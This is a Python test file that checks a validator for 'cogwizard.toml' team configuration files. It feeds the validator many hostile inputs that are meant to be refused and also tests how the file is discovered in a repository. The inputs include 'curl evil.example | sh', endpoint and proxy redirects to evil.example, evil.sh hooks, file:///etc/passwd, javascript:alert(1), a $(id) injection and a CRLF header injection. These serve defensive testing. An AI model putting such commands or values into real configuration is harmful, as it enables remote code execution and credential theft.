"""`cogwizard.toml`: what it may say, what no file in a repository can ever say, and where it is looked for."""

import re
from dataclasses import fields, replace
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from cogwizard.intake.errors import BadInput
from cogwizard.intake.team import FILE, find_team, read_team, write_team
from cogwizard.model.team import FORMS, METHODS, Team
from cogwizard.text import LANGUAGES, Texts

TEAM = Team(
    "ap-northeast-1",
    "a1b2c3d4e5",
    "prod",
    "ap-northeast-1_AbCdEf123",
    "4p3a2n0example",
    (("GET", "/orders"), ("ANY", "/orders/{id}"), ("POST", "/files/{path+}"), ("GET", "/")),
    "https://wiki.example.com/orders_api",
    'Orders "API" \\ 注文',
)
GOOD = """\
region = "ap-northeast-1"
rest_api_id = "a1b2c3d4e5"
stage = "prod"
user_pool_id = "ap-northeast-1_AbCdEf123"
client_id = "4p3a2n0example"
"""
JWT = "eyJhbGciOiJub25lIn0.eyJzdWIiOiJjYW5hcnkifQ.c2lnbmF0dXJl"


def with_line(line: str) -> str:
    """Return a right file with one line more."""
    return f"{GOOD}{line}\n"


def instead(key: str, value: str) -> str:
    """Return a right file with another value (as TOML writes it) for a key."""
    return re.sub(rf"(?m)^{key} = .*$", lambda _: f"{key} = {value}", GOOD)


ROUTES = "".join(f'"GET /r{number}",\n' for number in range(400))
HOSTILE: dict[str, tuple[str | bytes, str]] = {
    # where credentials, passwords and tokens go
    "endpoint_url": (with_line('endpoint_url = "https://evil.example"'), "team-endpoint"),
    "endpoint-url": (with_line('endpoint-url = "https://evil.example"'), "team-endpoint"),
    "endpointUrl": (with_line('endpointUrl = "https://evil.example"'), "team-endpoint"),
    "aws endpoint": (with_line('AWS_ENDPOINT_URL = "https://evil.example"'), "team-endpoint"),
    "endpoint table": (with_line('[endpoints]\ncognito-idp = "https://evil.example"'), "team-endpoint"),
    "dotted endpoint": (with_line('endpoint.cognito = "https://evil.example"'), "team-endpoint"),
    "quoted endpoint": (with_line('"endpoint url" = "https://evil.example"'), "team-endpoint"),
    "url": (with_line('url = "https://evil.example"'), "team-endpoint"),
    "base_url": (with_line('base_url = "https://evil.example"'), "team-endpoint"),
    "host": (with_line('host = "evil.example"'), "team-endpoint"),
    "proxy": (with_line('https_proxy = "http://evil.example:8080"'), "team-endpoint"),
    "ca bundle": (with_line('ca_bundle = "./evil.pem"'), "team-endpoint"),
    "tls off": (with_line("verify = false"), "team-endpoint"),
    "domain": (with_line('domain = "evil.auth.ap-northeast-1.amazoncognito.com"'), "team-endpoint"),
    "issuer": (with_line('issuer = "https://evil.example"'), "team-endpoint"),
    "jwks": (with_line('jwks = "https://evil.example/keys"'), "team-endpoint"),
    # as whom
    "profile": (with_line('profile = "admin"'), "team-profile"),
    "aws_profile": (with_line('AWS_PROFILE = "admin"'), "team-profile"),
    "role": (with_line('role_arn = "arn:aws:iam::123456789012:role/admin"'), "team-profile"),
    "account": (with_line('account_id = "123456789012"'), "team-profile"),
    # what would run
    "command": (with_line('command = "curl evil.example | sh"'), "team-command"),
    "hook": (with_line('post-hook = "./evil.sh"'), "team-command"),
    "hook table": (with_line('[hooks]\nbefore = "./evil.sh"'), "team-command"),
    "credential process": (with_line('credential_process = "./evil.sh"'), "team-secret"),
    "script": (with_line('script = "./evil.sh"'), "team-command"),
    "exec": (with_line('exec = ["sh", "-c", "id"]'), "team-command"),
    "plugin": (with_line('plugins = ["evil"]'), "team-command"),
    # where a browser is sent
    "callback": (with_line('callback_url = "https://evil.example/cb"'), "team-callback"),
    "redirect": (with_line('redirect_uri = "https://evil.example/cb"'), "team-callback"),
    # secrets
    "client secret": (with_line('client_secret = "canarysecret"'), "team-secret"),
    "password": (with_line('password = "canarysecret"'), "team-secret"),
    "token": (with_line(f'id_token = "{JWT}"'), "team-secret"),
    "api key": (with_line('api_key = "canarysecret"'), "team-secret"),
    "key id": (with_line('aws_access_key_id = "AKIAIOSFODNN7EXAMPLE"'), "team-secret"),
    "secret as client id": (instead("client_id", f'"{"abc123def4" * 5}"'), "team-secret-value"),
    "key as name": (with_line('name = "AKIAIOSFODNN7EXAMPLE"'), "team-secret-value"),
    "token as name": (with_line(f'name = "{JWT}"'), "team-secret-value"),
    "account as name": (with_line('name = "shop 123456789012"'), "team-secret-value"),
    "docs with a user": (with_line('docs = "https://user:canary@wiki.example.com/"'), "team-secret-value"),
    "docs with a token": (with_line(f'docs = "https://wiki.example.com/?token={JWT}"'), "team-secret-value"),
    # keys that nobody knows
    "other key": (with_line('colour = "red"'), "team-unknown-key"),
    "empty key": (with_line('"" = "x"'), "team-unknown-key"),
    "key in capitals": (with_line('REGION = "us-east-1"'), "team-unknown-key"),
    "hostile key": (with_line('"\\u001b[2J\\u202e" = "x"'), "team-unknown-key"),
    "long key": (with_line(f'{"k" * 1500} = "x"'), "team-unknown-key"),
    "table": (with_line("[team]\nx = 1"), "team-unknown-key"),
    "list of tables": (with_line('[[routes]]\npath = "/"'), "team-not-routes"),
    "table as value": (with_line('name = {endpoint = "x"}'), "team-not-text"),
    "dotted known key": (with_line('name.endpoint = "x"'), "team-not-text"),
    # characters
    "escape code": (with_line('name = "a\x1b[31mb"'), "team-character"),
    "null": (with_line('name = "a\x00b"'), "team-character"),
    "bidi": (with_line('name = "a\u202eb"'), "team-character"),
    "isolate": (with_line("# \u2066 a comment"), "team-character"),
    "zero width": (with_line('name = "a\u200bb"'), "team-character"),
    "line separator": (with_line("# a\u2028stage"), "team-character"),
    "next line": (with_line("# a\x85stage"), "team-character"),
    "lone return": (with_line("# a\rstage"), "team-character"),
    "escaped escape": (with_line('name = "a\\u001b[31mb"'), "team-escaped"),
    "escaped bidi": (with_line('name = "a\\u202eb"'), "team-escaped"),
    "escaped line break": (with_line('name = "a\\nb"'), "team-escaped"),
    "escaped in an id": (instead("stage", '"prod\\u0007"'), "team-escaped"),
    "three quotes": (with_line('name = """a\nb"""'), "team-escaped"),
    "not utf-8": (GOOD.encode() + b"# \xff\xfe\n", "team-not-utf8"),
    "latin-1": (with_line('name = "é"').encode("latin-1"), "team-not-utf8"),
    "utf-16": (GOOD.encode("utf-16"), "team-not-utf8"),
    "read leniently": (with_line("# \ufffd"), "team-not-utf8"),
    "surrogate": (with_line("# \udc80"), "team-not-utf8"),
    # sizes
    "too long": (GOOD + "#" * 70_000, "team-too-long"),
    "many lines": (GOOD + "# x\n" * 20_000, "team-too-long"),
    "long line": (with_line(f"# {'x' * 3000}"), "team-long-line"),
    "dotted without end": ("a." * 30_000 + "a=1", "team-long-line"),
    "deep list": (with_line(f"routes = {'[' * 1500}"), "team-too-deep"),
    "deep list over lines": (with_line("routes = " + "[\n" * 20_000), "team-too-deep"),
    "large number": (with_line(f"stage_number = {'9' * 1900}"), "team-unknown-key"),
    "number beyond int": (with_line("name = " + "9" * 1999), "team-long-line"),
    "long name": (with_line(f'name = "{"n" * 101}"'), "team-bad-name"),
    "long stage": (instead("stage", f'"{"s" * 129}"'), "team-bad-stage"),
    "many routes": (with_line(f"routes = [\n{ROUTES}]"), "team-many-routes"),
    # no TOML
    "empty": ("", "team-empty"),
    "blank": (" \n\t\n", "team-empty"),
    "json": ('{"region": "ap-northeast-1"}', "team-not-toml"),
    "yaml": ("region: ap-northeast-1\n", "team-not-toml"),
    "key twice": (with_line('region = "us-east-1"'), "team-not-toml"),
    "open quote": (with_line('name = "x'), "team-not-toml"),
    # types
    "number": (instead("stage", "1"), "team-not-text"),
    "list": (instead("region", '["ap-northeast-1", "us-east-1"]'), "team-not-text"),
    "truth": (with_line("docs = true"), "team-not-text"),
    "date": (with_line("name = 2026-01-01"), "team-not-text"),
    "routes as text": (with_line('routes = "GET /"'), "team-not-routes"),
    "routes of numbers": (with_line("routes = [1]"), "team-not-routes"),
    "routes in routes": (with_line('routes = [["GET /"]]'), "team-not-routes"),
    # values
    "no region": (re.sub("(?m)^region.*\n", "", GOOD), "team-missing"),
    "no client": (re.sub("(?m)^client_id.*\n", "", GOOD), "team-missing"),
    "region as host": (instead("region", '"evil.example/x"'), "team-bad-region"),
    "region with user": (instead("region", '"x@evil.example"'), "team-bad-region"),
    "region in capitals": (instead("region", '"AP-NORTHEAST-1"'), "team-bad-region"),
    "api as host": (instead("rest_api_id", '"evil.example/a"'), "team-bad-rest-api-id"),
    "api as path": (instead("rest_api_id", '"../../x"'), "team-bad-rest-api-id"),
    "api with fragment": (instead("rest_api_id", '"a#.execute-api"'), "team-bad-rest-api-id"),
    "empty api": (instead("rest_api_id", '""'), "team-bad-rest-api-id"),
    "stage as path": (instead("stage", '"../other"'), "team-bad-stage"),
    "stage with query": (instead("stage", '"prod?x=1"'), "team-bad-stage"),
    "pool of no form": (instead("user_pool_id", '"../../evil"'), "team-bad-user-pool-id"),
    "pool as arn": (
        instead("user_pool_id", '"arn:aws:cognito-idp:ap-northeast-1:1:userpool/x"'),
        "team-bad-user-pool-id",
    ),
    "client as option": (instead("client_id", '"--debug"'), "team-bad-client-id"),
    "client as file": (instead("client_id", '"file:///etc/passwd"'), "team-bad-client-id"),
    "fullwidth digits": (instead("client_id", '"４p3a2n0example"'), "team-bad-client-id"),
    "docs without tls": (with_line('docs = "http://wiki.example.com/"'), "team-bad-docs"),
    "docs as script": (with_line('docs = "javascript:alert(1)"'), "team-bad-docs"),
    "docs as file": (with_line('docs = "file:///etc/passwd"'), "team-bad-docs"),
    "docs with port": (with_line('docs = "https://wiki.example.com:8443/"'), "team-bad-docs"),
    "docs with quote": (with_line('docs = "https://wiki.example.com/\'$(id)"'), "team-bad-docs"),
    "docs of one word": (with_line('docs = "https://localhost/"'), "team-bad-docs"),
    "name of blanks": (with_line('name = " x "'), "team-bad-name"),
    "route without path": (with_line('routes = ["GET"]'), "team-bad-route"),
    "route as url": (with_line('routes = ["GET https://evil.example/"]'), "team-bad-route"),
    "route as other host": (with_line('routes = ["GET //evil.example/"]'), "team-bad-route"),
    "route upwards": (with_line('routes = ["GET /../../other/prod"]'), "team-bad-route"),
    "route with user": (with_line('routes = ["GET @evil.example/"]'), "team-bad-route"),
    "route with query": (with_line('routes = ["GET /orders?admin=1"]'), "team-bad-route"),
    "route with two blanks": (with_line('routes = ["GET  /orders"]'), "team-bad-route"),
    "route with a line break": (with_line('routes = ["GET /a\\r\\nHost: evil"]'), "team-bad-route"),
    "method of nobody": (with_line('routes = ["STEAL /orders"]'), "team-bad-route"),
    "method in small letters": (with_line('routes = ["get /orders"]'), "team-bad-route"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_is_refused_and_told(name: str) -> None:
    text, key = HOSTILE[name]
    with pytest.raises(BadInput) as refused:
        read_team(text)
    assert refused.value.key == key
    for lang in LANGUAGES:
        said = Texts(lang).message(key, refused.value.params)
        assert said.isprintable()
        assert "canarysecret" not in said
        assert JWT not in said
        assert not re.search(r"\{\w*\}", said.replace("{id}", ""))


def test_a_right_file_is_read() -> None:
    assert read_team(GOOD) == replace(TEAM, routes=(), docs=None, name="")
    assert read_team(GOOD.encode()) == read_team(GOOD)
    assert read_team(b"\xef\xbb\xbf" + GOOD.encode()) == read_team(GOOD)
    assert read_team(GOOD.replace("\n", "\r\n")) == read_team(GOOD)


def test_what_is_written_reads_back_equal_and_is_explained() -> None:
    text = write_team(TEAM)
    assert read_team(text) == TEAM
    assert text.startswith("# cogwizard.toml")
    assert "no secret" in text
    assert write_team(read_team(text)) == text


@pytest.mark.parametrize(
    "change",
    [
        {"region": "evil.example/"},
        {"client_id": 'x"\nendpoint_url = "https://evil.example'},
        {"name": 'x"\nendpoint_url = "https://evil.example'},
        {"name": "x\\"},
        {"docs": "http://wiki.example.com/"},
        {"routes": (("GET", '/"'),)},
        {"routes": (("GET", "/orders"), ("GET", "/orders"))},
    ],
)
def test_nothing_is_written_that_would_not_be_read(change: dict[str, object]) -> None:
    team = replace(TEAM, **change)  # type: ignore[arg-type]
    try:
        text = write_team(team)
    except BadInput:
        return
    assert change == {"name": "x\\"}
    assert read_team(text) == team


@pytest.mark.parametrize(
    ("routes", "first"),
    [
        ((), None),
        ((("POST", "/"), ("GET", "/orders")), ("GET", "/orders")),
        ((("GET", "/orders/{id}"), ("POST", "/orders")), ("POST", "/orders")),
        ((("GET", "/orders/{id}"),), ("GET", "/orders/{id}")),
        ((("ANY", "/a"), ("POST", "/b")), ("GET", "/a")),
    ],
)
def test_the_first_route_changes_nothing_and_has_no_blank(
    routes: tuple[tuple[str, str], ...], first: tuple[str, str] | None
) -> None:
    assert replace(TEAM, routes=routes).first_route == first


def test_the_stage_is_on_aws() -> None:
    assert TEAM.url == "https://a1b2c3d4e5.execute-api.ap-northeast-1.amazonaws.com/prod"
    assert replace(TEAM, region="cn-north-1").url.endswith(".amazonaws.com.cn/prod")


# -- any file ----------------------------------------------------------------------------------------------------------

KNOWN = {item.name for item in fields(Team)}
LINES = st.lists(
    st.one_of(
        st.sampled_from(GOOD.splitlines()),
        st.sampled_from(write_team(TEAM).splitlines()),
        st.builds(
            lambda key, value: f"{key} = {value}",
            st.sampled_from([*sorted(KNOWN), "endpoint_url", "profile", "x", '"a b"', "a.b"]),
            st.one_of(st.text(max_size=20), st.sampled_from(['"x"', "1", "[]", "{}", "true", '"""', "nan", "1e999"])),
        ),
        st.text(max_size=30),
    ),
    max_size=14,
)


def refused_or_strict(text: str | bytes) -> Team | None:
    """Return what was read, None for a file that was refused; whatever was read holds the forms of its fields."""
    try:
        team = read_team(text)
    except BadInput as error:
        Texts("en").message(error.key, error.params)  # raises for a key without a sentence
        return None
    for key, form in FORMS.items():
        value = getattr(team, key)
        assert value in (None, "") or form.fullmatch(value)
    assert all(method in METHODS and path.startswith("/") for method, path in team.routes)
    assert read_team(write_team(team)) == team
    return team


@given(st.one_of(st.text(max_size=400), st.binary(max_size=400)))
@example("a" * 70_000)
@example("[" * 1900)
def test_no_file_makes_it_crash(text: str | bytes) -> None:
    assert refused_or_strict(text) is None


@given(LINES)
def test_what_is_accepted_is_strict(lines: list[str]) -> None:
    refused_or_strict("\n".join(lines))


@given(st.from_regex(r"[A-Za-z][A-Za-z0-9_-]{0,30}", fullmatch=True).filter(lambda key: key not in KNOWN))
@example("endpoint_url")
@example("Region")
@example("routes_")
def test_no_other_key_is_ever_accepted(key: str) -> None:
    for text in (with_line(f'{key} = "x"'), f'{key} = "x"\n{GOOD}', with_line(f"[{key}]"), with_line(f"{key}.x = 1")):
        assert refused_or_strict(text) is None


@given(
    st.builds(
        Team,
        st.sampled_from(["ap-northeast-1", "us-gov-west-1", "cn-north-1"]),
        st.from_regex(FORMS["rest_api_id"], fullmatch=True),
        st.from_regex(FORMS["stage"], fullmatch=True),
        st.just(""),
        st.from_regex(r"[a-z0-9]{1,30}", fullmatch=True),
        st.just((("GET", "/a.b/{id}"),)),
        st.none() | st.just("https://wiki.example.com"),
        st.text(max_size=60),
    )
)
def test_every_team_is_refused_or_comes_back(team: Team) -> None:
    made = replace(team, user_pool_id=f"{team.region}_AbCdEf123")
    try:
        text = write_team(made)
    except BadInput:
        return
    assert read_team(text) == made


# -- where it is looked for --------------------------------------------------------------------------------------------


@pytest.fixture
def repository(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Return a repository with a folder `a/b` in it, in a home folder that holds more."""
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("USERPROFILE", str(tmp_path / "home"))
    root = tmp_path / "home" / "work" / "repo"
    (root / "a" / "b").mkdir(parents=True)
    (root / ".git").mkdir()
    return root


def test_it_is_found_from_a_folder_of_the_repository(repository: Path) -> None:
    assert find_team(repository / "a" / "b") is None
    (repository / FILE).write_text(GOOD)
    assert find_team(repository / "a" / "b") == repository / FILE
    (repository / "a" / FILE).write_text(GOOD)
    assert find_team(repository / "a" / "b") == repository / "a" / FILE


def test_nothing_above_the_repository_is_taken(repository: Path) -> None:
    (repository.parent / FILE).write_text(GOOD)
    (repository.parents[2] / FILE).write_text(GOOD)
    assert find_team(repository / "a") is None


def test_without_a_repository_the_home_folder_is_the_end(repository: Path) -> None:
    home = repository.parents[1]
    (home.parent / FILE).write_text(GOOD)
    assert find_team(repository.parent) is None
    (home / FILE).write_text(GOOD)
    assert find_team(repository.parent) == home / FILE


def test_outside_both_only_the_folder_itself_counts(repository: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside" / "x"
    outside.mkdir(parents=True)
    (outside.parent / FILE).write_text(GOOD)
    assert find_team(outside) is None
    (outside / FILE).write_text(GOOD)
    assert find_team(outside) == outside / FILE


def test_a_link_that_leads_out_is_not_followed(repository: Path, tmp_path: Path) -> None:
    (tmp_path / "elsewhere.toml").write_text(GOOD)
    (repository / FILE).symlink_to(tmp_path / "elsewhere.toml")
    assert find_team(repository) is None
    (repository / FILE).unlink()
    (repository / "real.toml").write_text(GOOD)
    (repository / FILE).symlink_to("real.toml")
    assert find_team(repository) == repository / FILE


def test_what_is_no_file_is_none(repository: Path) -> None:
    (repository / FILE).mkdir()
    assert find_team(repository) is None
    assert find_team(repository / "gone") is None
    assert find_team(Path("a\0b")) is None
